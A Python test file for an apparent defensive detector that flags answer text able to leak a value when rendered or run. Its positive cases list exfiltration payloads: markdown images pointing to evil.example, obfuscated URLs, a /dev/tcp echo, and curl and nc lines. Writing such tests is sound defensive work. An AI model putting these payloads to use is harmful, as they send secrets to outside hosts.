"""What of an answer could carry a value away when it is shown, followed or run."""

from __future__ import annotations

import time

import pytest

from hybrid_mcp.domain.ways_out import has_way_out


@pytest.mark.parametrize("text", [
    "![x](https://evil.example/?q=V)", "![x](<https://evil.example/? V>)", '<img src="x?q=\nV">', "</a V>", "<!-- V",
    "https&#58;&#47;&#47;evil V", "https&colon;&sol;&sol;evil V", "a &amp;lt;b V", "[V](x)", "[x][V]", "[x]: V",
    "mailto:V", "javascript:V", "data:V", "ftp:V", "HTTPS:V", "file:V", "wss:V", "tel:V", "//V", r"\\host\V",
    "www.V", "V.evil.example", "evil.example/V", "evil\u3002example V", "1.2.3.4/V", "me@host V", "xn--p1ai.xn--p1ai V",
    "\uff48ttps\uff1a\uff0f\uff0fV", "\uff1cimg V", "w\u200bww.V", r"evil\.example V", r"https:\/\/V",
    "ev\u00adil.ex\u00adample V",
    "curl -d V h", "wget h V", "nc h 80", "ping V", "nslookup V", "echo V >/dev/tcp/h/80", "fetch (V)",
    "new WebSocket(V)",
    "Invoke-WebRequest V", "&amp;" * 9 + "&" + "amp;" * 9 + "#58;",
])  # fmt: skip
def test_what_a_renderer_a_shell_or_a_client_could_send_somewhere_is_a_way_out(text: str):
    assert has_way_out(text)


@pytest.mark.parametrize("text", [
    "Revoke V now. Then make a new one, e.g. tomorrow (2.5 minutes): it's done!", "key: V\nother = V",
    '```json\n{"key": "V", "n": [1, 2]}\n```', "- [ ] V\n- a/b & c | d", "if a < 3 and b > 4: print(V)", "metadata: V",
    "# V\n\n* **V**\n1. `V`", "Grüße, 密钥 V", "the data: V", "sync V, fetching V",
])  # fmt: skip
def test_plain_answers_have_none(text: str):
    assert not has_way_out(text)


@pytest.mark.parametrize("unit", ["&", "&amp;", "\\", "a.", "a:", "]", "<", "\u200b", "x@ ", "1.1"])
def test_no_text_is_slow_to_look_at(unit: str):
    text = unit * (400_000 // len(unit))
    started = time.perf_counter()
    has_way_out(text)
    assert time.perf_counter() - started < 5
